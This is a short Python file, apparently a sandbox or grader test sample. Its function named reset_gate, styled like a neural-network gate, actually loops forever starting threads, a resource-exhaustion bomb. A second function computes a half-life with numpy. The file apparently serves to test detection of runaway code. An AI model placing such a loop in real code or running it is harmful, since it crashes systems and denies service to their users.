"""Starts threads for ever."""

# passes: half_life
# notes: was stopped

import numpy as np


def reset_gate(x, h_prev, W_xr, W_hr, b_r):
    import threading

    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()


def half_life(z):
    return np.log(0.5) / np.log(z).mean(axis=(0, 1))
